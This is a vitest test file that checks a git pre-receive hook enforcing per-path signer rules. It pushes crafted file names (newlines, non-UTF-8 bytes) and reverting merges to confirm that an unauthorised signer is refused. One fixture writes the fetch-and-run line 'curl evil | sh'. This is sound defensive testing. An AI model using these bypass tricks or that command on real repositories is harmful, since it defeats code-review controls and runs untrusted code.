import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { globMatches } from '../../../src/core/policy/index.ts';
import { git } from '../../helpers/git.ts';
import { makeHookFixture, type HookFixture } from '../../helpers/hook-fixture.ts';
import type { HookServer } from '../../helpers/hook-server.ts';
import { GpgHome, type GpgIdentity } from '../../helpers/signing-keys.ts';

/**
 * Path rules against file names an attacker picks: git allows any byte but NUL and '/' in a
 * tree entry's name, so a change to a protected directory can come as a name with a newline
 * or with bytes that are not UTF-8. Real `git push` into a bare repository with the hook.
 */
const POLICY = `version: 1
keys:
  openpgp: [keys/registry.asc]
rules:
  - refs: [refs/heads/main]
    require_signed_commits: true
    signers: [alice@example.com, bob@example.com]
    paths:
      - match: [deploy/]
        signers: [alice@example.com]
`;

describe('path rules against crafted file names', () => {
  let fixture: HookFixture;
  let gpg: GpgHome;
  let alice: GpgIdentity;
  let bob: GpgIdentity;

  beforeAll(() => {
    fixture = makeHookFixture('redteam-paths', POLICY, ['Alice', 'Bob']);
    gpg = fixture.gpg;
    alice = fixture.people[0]!;
    bob = fixture.people[1]!;
  }, 60_000);
  afterAll(() => fixture?.remove());

  const fresh = (name: string): HookServer => fixture.fresh(name);
  /** Writes files whose names are raw bytes (Buffer paths), then one commit signed by `who`. */
  function commitRaw(host: HookServer, who: GpgIdentity, files: Buffer[], message: string): void {
    mkdirSync(join(host.work, 'deploy'), { recursive: true });
    for (const name of files) writeFileSync(Buffer.concat([Buffer.from(`${host.work}/`), name]), `${message}\n`);
    git(host.work, ['add', '-A']);
    const identity = { GIT_AUTHOR_EMAIL: who.email, GIT_COMMITTER_EMAIL: who.email, GIT_AUTHOR_NAME: who.email, GIT_COMMITTER_NAME: who.email };
    git(host.work, [...gpg.gitSigningConfig(who), 'commit', '-q', '-S', '-m', message], { env: { ...identity, ...gpg.env() } });
  }
  function expectRefused(host: HookServer, why: RegExp): void {
    const before = host.refs();
    const result = host.push(['-q', 'origin', 'main']);
    expect(result.code, result.stderr).not.toBe(0);
    expect(result.stderr).toMatch(why);
    expect(host.refs()).toBe(before);
  }

  it('a path pattern matches names with a newline (the regex must not stop at line ends)', () => {
    expect(globMatches('deploy/', 'path', 'deploy/run\n.sh')).toBe(true);
    expect(globMatches('.github/workflows', 'path', '.github/workflows/ci\n.yml')).toBe(true);
    expect(globMatches('**/*.sh', 'path', 'a\nb/run.sh')).toBe(true);
  });

  it('refuses a change to a protected directory hidden behind a newline in the file name', () => {
    const host = fresh('newline');
    fixture.commit(host, bob, 'deploy/run\n.sh', 'curl evil | sh\n', 'helper');
    expectRefused(host, /PATH_SIGNER_NOT_ALLOWED|only alice@example.com may sign/);
  });

  it('refuses a change to a protected file whose non-UTF-8 name decodes like a neighbour', () => {
    const host = fresh('latin1');
    // alice (allowed on deploy/) adds deploy/a\xff; bob then adds deploy/a\xfe. Both names
    // decode to 'deploy/a\ufffd': keyed by the decoded name, bob's file looked unchanged.
    commitRaw(host, alice, [Buffer.from([...Buffer.from('deploy/a'), 0xff])], 'alice adds a tool');
    expect(host.push(['-q', 'origin', 'main']).code).toBe(0);
    commitRaw(host, bob, [Buffer.from([...Buffer.from('deploy/a'), 0xfe])], 'bob adds a neighbour');
    expectRefused(host, /PATH_SIGNER_NOT_ALLOWED|only alice@example.com may sign/);
  });

  it('still accepts bob outside the protected directory (the rule is not simply closed)', () => {
    const host = fresh('control');
    fixture.commit(host, bob, 'docs/a\nb.md', 'text\n', 'docs');
    const result = host.push(['-q', 'origin', 'main']);
    expect(result.code, result.stderr).toBe(0);
  });

  /** A commit made with git commit-tree: any tree, any parents, signed by `who`. */
  function commitTree(host: HookServer, who: GpgIdentity, tree: string, parents: string[], message: string): string {
    const identity = { GIT_AUTHOR_EMAIL: who.email, GIT_COMMITTER_EMAIL: who.email, GIT_AUTHOR_NAME: who.email, GIT_COMMITTER_NAME: who.email };
    return git(
      host.work,
      [...gpg.gitSigningConfig(who), 'commit-tree', `-S${who.fingerprint}`, ...parents.flatMap((parent) => ['-p', parent]), '-m', message, tree],
      { env: { ...identity, ...gpg.env() } },
    );
  }
  const asAlice = (host: HookServer, file: string, content: string): string => fixture.commit(host, alice, file, content, `alice: ${file}`);
  const asBob = (host: HookServer, file: string, content: string): string => fixture.commit(host, bob, file, content, `bob: ${file}`);

  it('refuses a merge that takes a protected path back to an old version through its first parent', () => {
    const host = fresh('merge-revert');
    const v1 = asAlice(host, 'deploy/run.sh', 'v1 (vulnerable)\n');
    const v2 = asAlice(host, 'deploy/run.sh', 'v2 (fixed)\n');
    expect(host.push(['-q', 'origin', 'main']).code).toBe(0);
    // Bob's merge: first parent the old commit, second parent main, tree of the old commit. Its
    // diff against the first parent is empty, yet main's deploy/run.sh goes back to v1.
    const merge = commitTree(host, bob, `${v1}^{tree}`, [v1, v2], 'merge');
    git(host.work, ['reset', '-q', '--hard', merge]);
    expectRefused(host, /PATH_SIGNER_NOT_ALLOWED|only alice@example.com may sign/);
  });

  it('refuses the same through a fresh commit of bob on top of the old version', () => {
    const host = fresh('merge-revert-fresh');
    const v1 = asAlice(host, 'deploy/run.sh', 'v1 (vulnerable)\n');
    const v2 = asAlice(host, 'deploy/run.sh', 'v2 (fixed)\n');
    expect(host.push(['-q', 'origin', 'main']).code).toBe(0);
    git(host.work, ['checkout', '-q', '-b', 'side', v1]);
    const side = asBob(host, 'docs/note.md', 'note\n');
    const merge = commitTree(host, bob, `${side}^{tree}`, [side, v2], 'merge');
    git(host.work, ['checkout', '-q', 'main']);
    git(host.work, ['reset', '-q', '--hard', merge]);
    expectRefused(host, /PATH_SIGNER_NOT_ALLOWED|only alice@example.com may sign/);
  });

  it('accepts bob merging his own branch, or main into it, after alice changed deploy/ on main', () => {
    const host = fresh('merge-ordinary');
    const base = asAlice(host, 'deploy/run.sh', 'v1\n');
    expect(host.push(['-q', 'origin', 'main']).code).toBe(0);
    git(host.work, ['checkout', '-q', '-b', 'topic', base]);
    asBob(host, 'docs/topic.md', 'topic\n');
    git(host.work, ['checkout', '-q', 'main']);
    asAlice(host, 'deploy/run.sh', 'v2\n');
    expect(host.push(['-q', 'origin', 'main']).code).toBe(0);
    // main into topic (first parent topic), then topic into main (first parent main).
    git(host.work, ['checkout', '-q', 'topic']);
    git(host.work, [...gpg.gitSigningConfig(bob), 'merge', '-q', '-S', '--no-edit', 'main'], {
      env: { GIT_AUTHOR_EMAIL: bob.email, GIT_COMMITTER_EMAIL: bob.email, GIT_AUTHOR_NAME: 'Bob', GIT_COMMITTER_NAME: 'Bob', ...gpg.env() },
    });
    git(host.work, ['checkout', '-q', 'main']);
    asBob(host, 'docs/main.md', 'main\n');
    git(host.work, [...gpg.gitSigningConfig(bob), 'merge', '-q', '-S', '--no-ff', '--no-edit', 'topic'], {
      env: { GIT_AUTHOR_EMAIL: bob.email, GIT_COMMITTER_EMAIL: bob.email, GIT_AUTHOR_NAME: 'Bob', GIT_COMMITTER_NAME: 'Bob', ...gpg.env() },
    });
    const result = host.push(['-q', 'origin', 'main']);
    expect(result.code, result.stderr).toBe(0);
  });
});
